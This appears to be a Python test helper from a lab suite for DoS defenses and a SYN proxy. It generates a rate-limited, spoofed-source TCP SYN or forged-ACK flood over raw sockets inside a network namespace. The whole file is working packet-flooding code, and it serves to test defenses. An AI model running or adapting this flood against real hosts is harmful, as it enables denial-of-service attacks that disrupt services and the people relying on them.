# SPDX-License-Identifier: BSD-3-Clause
"""A spoofed-source TCP flood for the DoS labs (test_80_defense, and the
SYN proxy's test_85_synproxy): segments with only `flags` set (SYN; or
ACK, with a random acknowledgment number: a forged SYN cookie) to VIP:80
from 192.168.1.100-199 (the client's LAN, no such hosts), random ports
and sequence numbers, at `rate` a second (paced by 10 ms), bounded in
time and count; to another port with dport.

    proc = flood.start(ns, vip, secs, limit, rate, flags=flood.SYN, dport=80)
    sent = flood.sent(proc, timeout)   # how many it sent

start() runs this file as a script in the namespace: a raw socket
(IPPROTO_RAW, the IP header ours), so it needs root there, which the
lab has. It prints how many it sent.
"""
import os
import random
import socket
import struct
import subprocess
import sys
import time

SYN, ACK = 0x02, 0x10
HERE = os.path.abspath(__file__)


def start(ns, vip, secs, limit, rate, flags=SYN, dport=80):
    """The flood, running in namespace ns: a Popen whose stdout says how
    many it sent (sent())."""
    return subprocess.Popen(["ip", "netns", "exec", ns, "/usr/bin/python3", HERE, vip,
                             str(secs), str(limit), str(rate), str(flags), str(dport)],
                            stdout=subprocess.PIPE, text=True)


def sent(proc, timeout):
    """Waits (at most timeout s) for a flood start() began: how many it
    sent. Past the timeout the flood is killed (and the timeout raised)."""
    try:
        out, _ = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.communicate()
        raise
    return int(out.strip() or 0)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    n = (n >> 16) + (n & 0xffff)
    n += n >> 16
    return ~n & 0xffff


def segment(src, dst, flags, dport=80):
    """An IPv4 packet of a 20-byte TCP header to dport (checksum right;
    the kernel fills the IP header's)."""
    sp = random.randint(1024, 65535)
    ack = random.getrandbits(32) if flags & ACK else 0
    tcp = struct.pack("!HHIIBBHHH", sp, dport, random.getrandbits(32), ack, 5 << 4, flags,
                      64240, 0, 0)
    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, src, dst)
    return ip + tcp


def main(vip, secs, limit, rate, flags, dport):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    d = socket.inet_aton(vip)
    start_t = time.time()
    end, n = start_t + secs, 0
    while n < limit and time.time() < end:
        if n >= (time.time() - start_t) * rate:
            time.sleep(0.01)
            continue
        src = socket.inet_aton("192.168.1.%d" % random.randint(100, 199))
        try:
            s.sendto(segment(src, d, flags, dport), (vip, 0))
            n += 1
        except OSError:
            time.sleep(0.001)
    return n


if __name__ == "__main__":
    print(main(sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]),
               int(sys.argv[5]) if len(sys.argv) > 5 else SYN,
               int(sys.argv[6]) if len(sys.argv) > 6 else 80))
